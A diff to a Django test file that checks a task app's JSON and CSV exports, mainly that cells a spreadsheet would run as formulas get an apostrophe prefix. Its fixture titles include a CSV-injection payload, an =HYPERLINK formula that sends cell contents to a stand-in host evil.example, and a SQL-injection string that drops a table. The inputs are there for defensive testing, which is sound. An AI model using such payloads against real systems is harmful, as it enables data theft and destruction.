@@ -4,7 +4,7 @@ import csv
 import io
 import json
 import re
-from datetime import datetime
+from datetime import datetime, timedelta
 
 import pytest
 from django.contrib.auth import get_user_model
@@ -27,23 +27,32 @@ AWKWARD_TITLES = [
     "=1+1",
     "  padded  ",
     "'; DROP TABLE tasks_task; --",
+    # Formulas to a spreadsheet (the forms trim the last two's white space;
+    # the ORM, and so this fixture, does not).
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1",
+    "-1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
 ]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(response) -> str:
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith("\ufeff".encode()), "no UTF-8 byte-order mark"
+    return raw.decode("utf-8")
 
 
 def exported_csv(response) -> list[dict]:
-    text = b"".join(response.streaming_content).decode("utf-8")
+    text = csv_text(response).removeprefix("\ufeff")
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def expected_row(task: Task) -> dict:
-    return {
-        "id": task.pk,
-        "title": task.title,
-        "description": task.description,
-        "completed": task.completed,
-        "created_at": task.created_at,
-        "updated_at": task.updated_at,
-    }
+def as_csv_cell(value: str) -> str:
+    """The contract's rule: a cell a spreadsheet would run gets a "'"."""
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
 
 
 @pytest.fixture
@@ -81,7 +90,7 @@ def test_every_page_links_to_the_account_page(alice_client):
 # --- Export --------------------------------------------------------------------------
 
 
-def test_json_export_holds_every_task_of_mine_with_every_field_but_the_owner(
+def test_json_export_holds_every_task_of_mine_as_the_api_shows_it(
     alice_client, awkward_tasks, other_task
 ):
     response = alice_client.get("/accounts/export.json")
@@ -89,18 +98,19 @@ def test_json_export_holds_every_task_of_mine_with_every_field_but_the_owner(
     assert response.status_code == 200
     assert response["Content-Type"] == "application/json"
     assert response["Content-Disposition"] == 'attachment; filename="tasks.json"'
-    rows = json.loads(response.content)
+    text = response.content.decode("utf-8")
+    # UTF-8 text: non-ASCII as itself, never as a \u escape.
+    assert "\\u" not in text
+    assert "Ünïcödé — 漢字 😀" in text
+    rows = json.loads(text)
     assert [list(row) for row in rows] == [EXPORT_FIELDS] * len(awkward_tasks)
     by_id = {row["id"]: row for row in rows}
     assert set(by_id) == {task.pk for task in awkward_tasks}
     assert other_task.pk not in by_id
     for task in awkward_tasks:
-        row = by_id[task.pk]
-        expected = expected_row(task)
-        for field in ("created_at", "updated_at"):
-            # Exactly, to the microsecond, as stored.
-            row[field] = datetime.fromisoformat(row[field])
-        assert row == expected
+        # The API's task object, byte for byte the same values.
+        assert by_id[task.pk] == alice_client.get(f"/api/tasks/{task.pk}").json()
+        assert by_id[task.pk]["title"] == task.title
 
 
 def test_csv_export_round_trips_commas_quotes_newlines_and_unicode(
@@ -118,18 +128,41 @@ def test_csv_export_round_trips_commas_quotes_newlines_and_unicode(
     assert other_task.pk not in by_id
     for task in awkward_tasks:
         row = by_id[task.pk]
-        assert row["title"] == task.title
-        assert row["description"] == task.description
-        assert row["completed"] == str(task.completed)
-        assert datetime.fromisoformat(row["created_at"]) == task.created_at
-        assert datetime.fromisoformat(row["updated_at"]) == task.updated_at
+        api = alice_client.get(f"/api/tasks/{task.pk}").json()
+        assert row["title"] == as_csv_cell(task.title)
+        assert row["description"] == as_csv_cell(task.description)
+        assert row["completed"] == ("true" if task.completed else "false")
+        # ISO 8601 UTC, as the API writes them.
+        assert row["created_at"] == api["created_at"]
+        assert row["updated_at"] == api["updated_at"]
+        assert datetime.fromisoformat(row["updated_at"]).utcoffset() == timedelta(0)
+
+
+def test_csv_export_prefixes_every_cell_a_spreadsheet_would_run(
+    alice_client, awkward_tasks
+):
+    titles = {
+        row["title"] for row in exported_csv(alice_client.get("/accounts/export.csv"))
+    }
+    assert {
+        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
+        "'+1",
+        "'-1",
+        "'@SUM(A1:A2)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "'=1+1",
+        # Anything else is left as it is.
+        "Comma, inside",
+        "'; DROP TABLE tasks_task; --",
+    } <= titles
+    assert not any(title.startswith(FORMULA_STARTS) for title in titles)
 
 
 def test_exports_of_a_user_without_tasks_are_empty_but_well_formed(alice_client):
     assert json.loads(alice_client.get("/accounts/export.json").content) == []
     response = alice_client.get("/accounts/export.csv")
-    text = b"".join(response.streaming_content).decode()
-    assert text == ",".join(EXPORT_FIELDS) + "\r\n"
+    assert csv_text(response) == "\ufeff" + ",".join(EXPORT_FIELDS) + "\r\n"
 
 
 def test_json_export_costs_two_queries_whatever_the_number_of_tasks(
